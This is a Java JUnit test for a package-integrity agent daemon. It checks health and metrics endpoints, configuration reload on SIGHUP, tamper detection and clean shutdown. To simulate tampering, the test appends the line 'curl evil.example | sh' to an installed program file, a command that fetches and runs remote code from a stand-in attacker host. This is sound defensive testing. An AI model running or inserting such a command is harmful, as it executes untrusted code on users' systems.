package org.veripack.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The agent as a process on the system clock: it installs at start, serves /healthz and /metrics, reloads its
 * configuration and checks integrity on SIGHUP, keeps the configuration in force when the new one is bad, and stops
 * cleanly (exit 0, {@code agent.stopped}) on SIGTERM.
 */
class AgentDaemonTest {
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @TempDir
    Path tmp;

    @Test
    void sighupReloadsAndChecksIntegritySigtermStopsCleanly() throws Exception {
        AgentFixture f = new AgentFixture(tmp, Instant.now());
        f.publish("acme-mme", "1.0", "exit 0");
        int port = Rsyslog.freeTcpPort();
        Path config = f.configFile("metrics: {address: '127.0.0.1:" + port + "'}\ninterval: 1h\nintegrityInterval: 1h\n");
        Path log = tmp.resolve("agent.log");
        Process p = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-Xmx96m",
                "-cp", System.getProperty("java.class.path"), DaemonMain.class.getName(), f.node.toString(), config.toString())
                .redirectErrorStream(true).redirectOutput(log.toFile()).start();
        try {
            await(() -> lines(f).stream().anyMatch(l -> l.contains("\"event\":\"agent.health\"") && l.contains("ACCEPTED")), p, log);
            assertEquals(200, get(port, "/healthz").statusCode());
            String metrics = get(port, "/metrics").body();
            assertTrue(metrics.contains("veripack_active_package_info{package=\"acme-mme\",slot="), metrics);
            assertTrue(metrics.contains("veripack_updates_total{result=\"installed\"} 1.0"), metrics);

            // a bad configuration on SIGHUP: reported, the one in force kept; the integrity check still runs
            Path prog = f.node.resolve("current/Files/bin/prog");
            prog.toFile().setWritable(true);
            Files.writeString(prog, "curl evil.example | sh\n", StandardCharsets.UTF_8, StandardOpenOption.APPEND);
            String good = Files.readString(config);
            Files.writeString(config, good + "intervall: 1h\n");
            signal(p, "HUP");
            await(() -> lines(f).stream().anyMatch(l -> l.contains("\"event\":\"scan\"") && l.contains("INSTALLATION_TAMPERED")), p, log);
            await(() -> read(log).contains("unknown key intervall"), p, log);
            assertEquals(200, get(port, "/healthz").statusCode(), "still running on the old configuration");
            assertTrue(get(port, "/metrics").body().contains("veripack_integrity_intact 0.0"));

            Files.writeString(config, good);
            signal(p, "HUP");
            await(() -> lines(f).stream().anyMatch(l -> l.contains("\"event\":\"agent.started\"") && l.contains("reloaded config")), p, log);

            p.destroy(); // SIGTERM
            assertTrue(p.waitFor(30, TimeUnit.SECONDS), read(log));
            assertEquals(0, p.exitValue(), read(log));
            List<String> audit = lines(f);
            assertTrue(audit.get(audit.size() - 1).contains("\"event\":\"agent.stopped\""), audit.get(audit.size() - 1));
        } finally {
            p.destroyForcibly();
        }
    }

    private static void signal(Process p, String name) throws Exception {
        Process k = new ProcessBuilder("kill", "-" + name, Long.toString(p.pid())).start();
        assertEquals(0, k.waitFor());
    }

    private static void await(BooleanSupplier done, Process p, Path log) throws Exception {
        long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (!done.getAsBoolean()) {
            assertTrue(p.isAlive(), "the agent exited: " + read(log));
            assertTrue(System.nanoTime() < until, "timed out; agent output: " + read(log));
            Thread.sleep(100);
        }
    }

    private static List<String> lines(AgentFixture f) {
        try {
            Path audit = f.node.resolve("audit/events.jsonl");
            return Files.exists(audit) ? Files.readAllLines(audit) : List.of();
        } catch (IOException e) {
            return List.of();
        }
    }

    private static String read(Path log) {
        try {
            return Files.readString(log);
        } catch (IOException e) {
            return e.toString();
        }
    }

    private static HttpResponse<String> get(int port, String path) throws Exception {
        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path)).timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofString());
    }
}
